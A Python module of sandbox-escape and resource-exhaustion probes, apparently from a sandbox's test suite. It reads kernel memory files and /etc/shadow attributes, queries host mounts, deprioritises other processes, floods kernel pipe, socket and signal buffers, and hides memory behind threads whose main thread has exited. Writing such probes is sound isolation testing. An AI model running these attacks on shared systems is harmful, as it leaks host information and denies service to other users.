"""Attacks on what a sandbox shares with its host, loaded by `attack_payload.py` inside a sandbox.

Standard library only. An attack returns whether it worked, or raises what stopped it.
"""

from __future__ import annotations

import ctypes
import errno
import fcntl
import mmap
import os
import resource
import runpy
import signal
import socket
import struct
import sys
import threading
import time
from collections.abc import Callable
from contextlib import suppress
from pathlib import Path
from typing import Any

_CALLS = runpy.run_path("attack_calls.py")
_call, _column = _CALLS["_call"], _CALLS["_COLUMN"]
_LIBC = ctypes.CDLL(None, use_errno=True)
# System call numbers on x86_64 and aarch64.
_IOPRIO_SET, _STATMOUNT, _LISTMOUNT, _EXIT = (251, 30), (457, 457), (458, 458), (60, 93)
_QUEUE_SIGNAL, _SCHED_SETATTR = (129, 138), (314, 274)


def standard_input(_: dict[str, Any]) -> None:
    """Mode and times of what is behind the descriptors, by number and path. The host tells."""
    for place in (0, 1, 2, "/proc/self/fd/0", "/dev/stdin"):
        with suppress(OSError):
            os.chmod(place, 0o667)  # noqa: PTH101
        with suppress(OSError):
            os.utime(place, (0, 0))


def kept_devices(_: dict[str, Any]) -> None:
    """Device nodes out of a folder of the sandbox's own. The host tells."""
    for node in Path().glob(".*/*/*"):
        with suppress(OSError):
            node.rename(f"kept-{node.name}")


def leases(_: dict[str, Any]) -> bool:
    """Make whoever opens the file wait for us, or tell us."""
    Path("leased").touch()
    for path, command, argument in (("leased", 1024, 0), (".", 1026, 0x8000003F)):
        with suppress(OSError):
            fcntl.fcntl(os.open(path, os.O_RDONLY), command, argument)
            return True
    return False


def _refused_by_us(call: tuple[int, int], *arguments: Any) -> bool:
    """Say whether a call is refused before the kernel looks at its arguments, which are wrong."""
    return not _call(call, *arguments) and ctypes.get_errno() in (1, 38)


def read_attributes(_: dict[str, Any]) -> bool:
    """Values of extended attributes, also of files that may not be read."""
    for path in ("/etc/shadow", sys.executable):
        try:
            os.getxattr(path, "user.none")
        except OSError as error:
            if error.errno not in (errno.EOPNOTSUPP, errno.ENOENT, errno.EACCES):
                return True
    return False


def mount_table(_: dict[str, Any]) -> bool:
    """Read what the host has mounted where."""
    return not all(_refused_by_us(call, 0, 0, 0, 0) for call in (_STATMOUNT, _LISTMOUNT))


def watched_programs(_: dict[str, Any]) -> bool:
    """Learn which programs the host runs by a watch on their folder."""
    return _LIBC.inotify_init1(0) >= 0 or _LIBC.fanotify_init(0x200, 0) >= 0


def host_facts(_: dict[str, Any]) -> bool:
    """Read how the kernel was started, and what lies where in its memory."""
    for name in ("cmdline", "kcore", "kpagecount", "kpageflags", "kallsyms"):
        with suppress(OSError), open(f"/proc/{name}", "rb") as stream:  # noqa: PTH123
            if stream.read(8):
                return True
    return False


def waiting_signals(_: dict[str, Any]) -> bool:
    """Signals that nobody takes are counted for the user, who then gets none."""
    signal.pthread_sigmask(signal.SIG_BLOCK, [signal.SIGRTMIN])
    data = struct.pack("=iii", signal.SIGRTMIN, 0, -1).ljust(128, b"\0")
    sent = sum(_call(_QUEUE_SIGNAL, os.getpid(), int(signal.SIGRTMIN), data) for _ in range(2000))
    return sent == 2000


def pseudo_terminals(_: dict[str, Any]) -> bool:
    """The machine has so many, for all users."""
    os.close(os.open("/dev/ptmx", os.O_RDWR | os.O_NOCTTY))
    return True


def scheduled_host(facts: dict[str, Any]) -> None:
    """Another process gets less time. The victim tells."""
    batch = struct.pack("=IIQiIQQQ", 48, 3, 0, 5, 0, 0, 0, 0)
    _call(_SCHED_SETATTR, facts["victim"], batch, 0)
    for way in (
        lambda: os.sched_setscheduler(facts["victim"], os.SCHED_BATCH, os.sched_param(0)),
        lambda: os.setpriority(os.PRIO_PROCESS, facts["victim"], 7),
    ):
        with suppress(OSError):
            way()


def priority_of_others(_: dict[str, Any]) -> bool:
    """All processes of the user or group: a priority that none may have changes nothing."""
    for which in (os.PRIO_USER, os.PRIO_PGRP):
        ctypes.set_errno(0)
        if _LIBC.setpriority(which, 0, -20) == 0 or ctypes.get_errno() != errno.EPERM:
            return True
    return not _refused_by_us(_IOPRIO_SET, 3, 0, 7 << 13)


def handled_crash(_: dict[str, Any]) -> bool:
    """A limit of core dumps other than 1 leaves a crash to a handler of the host's."""
    with suppress(OSError, ValueError):
        resource.setrlimit(resource.RLIMIT_CORE, (0, 0))
    _LIBC.setrlimit(resource.RLIMIT_CORE, struct.pack("=QQ", 0, 0))
    return resource.getrlimit(resource.RLIMIT_CORE) != (1, 1)


def _headless(work: Callable[[], object]) -> None:
    """Work on in a second thread after the main thread has ended: of the process less is seen."""

    def alone() -> None:
        time.sleep(0.1)
        work()
        print("ESCAPED", sys.argv[1], flush=True)
        os._exit(0)

    threading.Thread(target=alone).start()
    _LIBC.syscall(_EXIT[_column], 0)


def headless_files(_: dict[str, Any]) -> None:
    """Deleted files that a process without its main thread holds open."""

    def fill() -> None:
        for index in range(64):
            stream = os.open(f"headless{index}", os.O_CREAT | os.O_WRONLY, 0o600)
            Path(f"headless{index}").unlink()
            os.write(stream, bytes(1 << 20))
            time.sleep(0.01)

    _headless(fill)


def headless_maps(_: dict[str, Any]) -> None:
    """Deleted files that such a process maps."""

    def fill() -> None:
        held: list[mmap.mmap] = []
        for index in range(64):
            stream = os.open(f"mapped{index}", os.O_CREAT | os.O_RDWR, 0o600)
            os.write(stream, bytes(1 << 20))
            held.append(mmap.mmap(stream, 4096))
            os.close(stream)
            Path(f"mapped{index}").unlink()
            time.sleep(0.01)

    _headless(fill)


def headless_memory(facts: dict[str, Any]) -> None:
    """Memory of two such processes, each below the limit."""
    for _ in range(3):
        if not os.fork():
            _headless(lambda: time.sleep(3 * len(bytearray(b"x" * (facts["megabytes"] << 18))) > 0))
    time.sleep(2)
    print("ESCAPED", sys.argv[1], flush=True)


def shared_memory(facts: dict[str, Any]) -> bool:
    """Pages of a shared mapping stay when no page table leads to them any more."""
    space = mmap.mmap(-1, facts["megabytes"] << 20)
    for place in range(0, len(space), 1 << 20):
        space[place : place + (1 << 20)] = bytes([1]) * (1 << 20)
        space.madvise(mmap.MADV_DONTNEED, place, 1 << 20)
    return sum(space[place] for place in range(0, len(space), 1 << 20)) == facts["megabytes"]


def socket_buffers(facts: dict[str, Any]) -> bool:
    """What is sent and never read lies in the kernel."""
    most = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
    held: list[tuple[socket.socket, socket.socket]] = []
    size = 0
    while size < facts["megabytes"] << 20:
        pair = socket.socketpair()
        held.append(pair)
        for end in pair:
            end.setblocking(False)
            with suppress(BlockingIOError):
                while True:
                    size += end.send(bytes(60_000))
    return bool(held)


def pipe_buffers(facts: dict[str, Any]) -> bool:
    """What lies in pipes, lies in the kernel."""
    most = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
    held, size = [os.pipe()], 0
    while size < facts["megabytes"] << 20:
        end = held[-1][1]
        os.set_blocking(end, False)
        with suppress(OSError):
            fcntl.fcntl(end, 1031, 1 << 20)  # F_SETPIPE_SZ
        with suppress(BlockingIOError):
            while True:
                size += os.write(end, bytes(1 << 16))
        held.append(os.pipe())
    return True
